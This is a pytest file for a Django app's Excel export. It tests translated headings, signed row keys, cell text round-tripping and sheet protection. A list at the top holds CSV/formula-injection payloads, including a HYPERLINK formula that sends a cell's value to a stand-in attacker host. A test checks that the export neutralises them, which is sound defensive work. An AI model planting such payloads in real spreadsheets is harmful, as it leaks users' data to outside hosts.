"""Columns, keys, cells and the workbook itself."""

import io
import warnings
import zipfile
from datetime import date

import pytest
from django.conf import settings
from django.utils.translation import override
from hypothesis import given
from hypothesis import strategies as st

from checkpoints.models import Status, Strand
from checkpoints.sheets import keys, refusals
from checkpoints.sheets.cells import plain, written
from checkpoints.sheets.columns import COLUMNS, FILLED_IN, folded, headings, status_words, statuses
from checkpoints.sheets.keys import BadKey, Key
from checkpoints.sheets.refusals import Fault
from checkpoints.sheets.standing import People, lines_of
from checkpoints.sheets.writing import write_workbook
from tests import makers
from tests.sheet_files import rows_of

INJECTED = [
    '=HYPERLINK("http://ondt.example/?"&A1,"Klikk her")', "=1+1", "+1+1", "-1+1",
    "@SUM(A1:A9)", "\t=1+1", "{=1+1}", "https://ondt.example/", "mailto:per@example.no",
]  # fmt: skip
slugs = st.text("abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=50)
numbers = st.integers(min_value=0, max_value=99_999)


def workbook(strand: Strand, people: People = People(())) -> bytes:  # noqa: B008  it is frozen
    file = io.BytesIO()
    write_workbook(file, strand.region, lines_of(strand.region), people, date(2016, 11, 20))
    return file.getvalue()


# Words


def test_every_heading_and_status_means_one_thing_in_all_languages() -> None:
    for language, _name in settings.LANGUAGES:
        with override(language):
            for column in COLUMNS:
                assert headings()[folded(str(column.heading))] == column.name
            for is_question in (False, True):
                words = status_words(is_question=is_question)
                assert {statuses()[folded(word)]: word for word in words.values()} == words


@pytest.mark.parametrize("language", [code for code, _name in settings.LANGUAGES])
def test_what_programs_say_of_a_cell_is_as_short_as_they_allow(language: str) -> None:
    with override(language):
        assert [len(str(c.heading)) for c in FILLED_IN if len(str(c.heading)) > 32] == []
        assert [str(c.hint) for c in FILLED_IN if len(str(c.hint)) > 255] == []


def test_faults_are_told_in_the_order_of_the_sheet_and_once_for_many_rows() -> None:
    faults = [Fault(9, "b"), Fault(2, "a"), Fault(3, "a"), Fault(4, "a"), Fault(7, "a")]
    faults += [Fault(5, "c", "Status"), Fault(2, "d", also=(6,)), Fault(3, "d", also=(8,))]
    with override("en"):
        assert refusals.in_words(faults) == [
            "Rows 2–4, 7: a", "Rows 2, 6: d", "Rows 3, 8: d", "Row 5, Status: c", "Row 9: b",
        ]  # fmt: skip


# Keys


@given(slugs, numbers, slugs, slugs, numbers)
def test_a_key_says_what_it_was_made_of(
    region: str, strand: int, milestone: str, checkpoint: str, revision: int
) -> None:
    key = Key(region, strand, milestone, checkpoint, revision)
    assert keys.read(keys.signed(key), region=region) == key


@given(st.integers(min_value=0), st.characters())
def test_a_key_with_another_letter_is_not_accepted(place: int, letter: str) -> None:
    good = keys.signed(Key("bodo", 1, "m1", "c1", 4))
    at = place % len(good)
    bad = good[:at] + letter + good[at + 1 :]
    if bad != good:
        with pytest.raises(BadKey):
            keys.read(bad, region="bodo")


# Cells


@given(st.text())
def test_a_text_as_it_is_compared_is_the_same_when_it_has_been_through_a_cell(text: str) -> None:
    assert plain(written(plain(written(text)))) == plain(written(text))


# The workbook


@pytest.mark.parametrize("text", INJECTED)
def test_no_text_becomes_a_formula_or_a_link(text: str, strand: Strand) -> None:
    makers.assess(strand, 1, 1, Status.IN_PROGRESS, text=text, responsible_name=text)
    person = makers.coordinator_of(strand.region, makers.make_person(text.strip()))

    data = workbook(strand, People((person,)))

    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = "".join(
            book.read(name).decode() for name in book.namelist() if "worksheets/" in name
        )
    assert "<f>" not in sheets
    assert "<hyperlink" not in sheets
    with override("nb"):
        row = rows_of(data)[1]
    assert (row[7], row[8]) == (plain(text), text)


def test_headings_and_what_is_not_filled_in_are_locked(strand: Strand) -> None:
    with zipfile.ZipFile(io.BytesIO(workbook(strand))) as book:
        sheet = book.read("xl/worksheets/sheet2.xml").decode()
        names = book.read("xl/workbook.xml").decode()
    assert "<sheetProtection " in sheet
    assert "mergeCell" not in sheet
    assert '<pane xSplit="4" ySplit="1"' in sheet
    assert "<autoFilter " in sheet
    assert sheet.count("<dataValidation ") == len(FILLED_IN) + 1  # statements, questions
    assert "_xlnm.Print_Titles" in names
    assert "ColumnTitle" in names


def test_a_region_without_rows_and_people_gets_a_sheet_all_the_same(strand: Strand) -> None:
    Strand.objects.update(closed_on=date(2016, 1, 1))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert len(rows_of(workbook(strand))) == 1
